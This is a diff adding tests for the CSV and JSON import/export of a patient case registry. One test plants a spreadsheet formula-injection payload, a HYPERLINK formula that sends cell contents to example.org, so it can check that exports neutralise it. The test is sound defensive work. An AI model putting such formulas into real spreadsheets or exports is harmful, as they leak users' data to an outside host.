@@ -1,6 +1,7 @@
 """Import and export: all or nothing, precise errors, idempotent, and a lossless round trip."""
 
 import copy
+import csv
 import io
 import json
 import zipfile
@@ -276,3 +277,62 @@ def test_a_workbook_that_unpacks_to_far_more_than_case_tables_is_refused(setting
     assert response.json()["file"] == [
         "This workbook unpacks to 30 MB, far more than case tables do: it is not imported."
     ]
+
+
+def test_csv_export_writes_no_formula_and_reimports_the_exact_values(data_manager, case_a):
+    formula = '=HYPERLINK("http://example.org/?"&A1,"open")'
+    ProgressionEvent.objects.filter(patient=case_a.patient).update(notes=formula)
+    Patient.objects.filter(pk=case_a.patient.pk).update(given_name="'quoted")
+    files = exchange.tables_to_csv(exchange.cases_to_tables(document_of(case_a.patient)["cases"]))
+
+    rows = list(csv.reader(io.StringIO(files["progression_events.csv"])))
+    result = exchange.import_cases(
+        exchange.read_csv_files({n: t.encode() for n, t in files.items()}),
+        user=data_manager,
+        dry_run=False,
+        reason="test",
+    )
+
+    assert not any(cell.startswith(("=", "+", "@")) for row in rows for cell in row)
+    assert "'" + formula in rows[1]
+    assert result.ok and not sum(result.updated.values())
+    assert ProgressionEvent.objects.get(patient=case_a.patient).notes == formula
+    assert Patient.objects.get(pk=case_a.patient.pk).given_name == "'quoted"
+
+
+def test_csv_files_with_old_mac_line_ends_import(data_manager, case_a):
+    files = exchange.tables_to_csv(exchange.cases_to_tables(document_of(case_a.patient)["cases"]))
+    cr_only = {name: text.replace("\n", "\r").encode() for name, text in files.items()}
+
+    result = exchange.import_cases(
+        exchange.read_csv_files(cr_only), user=data_manager, dry_run=True, reason="test"
+    )
+
+    assert result.ok, result.errors
+    assert result.cases == 1 and not sum(result.updated.values())
+
+
+def test_a_broken_csv_file_is_refused_with_its_line(data_manager):
+    oversized = b"registry_id,centre\nMBC-1,CA\n" + b"x" * 200_000 + b",CA\n"
+
+    with pytest.raises(exchange.ExchangeFileError, match=r"patients\.csv, line 3"):
+        exchange.read_csv_files({"patients.csv": oversized})
+
+
+def test_the_import_command_reads_cr_only_csv_files(tmp_path, data_manager, case_a):
+    tables = exchange.cases_to_tables(document_of(case_a.patient)["cases"])
+    for name, text in exchange.tables_to_csv(tables).items():
+        (tmp_path / name).write_bytes(text.replace("\n", "\r").encode())
+    out = io.StringIO()
+
+    call_command("import_cases", *sorted(map(str, tmp_path.glob("*.csv"))), user="dm_a", stdout=out)
+
+    assert out.getvalue().startswith("Imported 1 cases")
+
+
+def test_a_json_file_with_a_byte_order_mark_is_read(data_manager, case_a):
+    content = "\ufeff".encode() + json.dumps(document_of(case_a.patient)).encode()
+
+    located = exchange.read_json(content)
+
+    assert [item.case["registry_id"] for item in located] == [case_a.patient.registry_id]
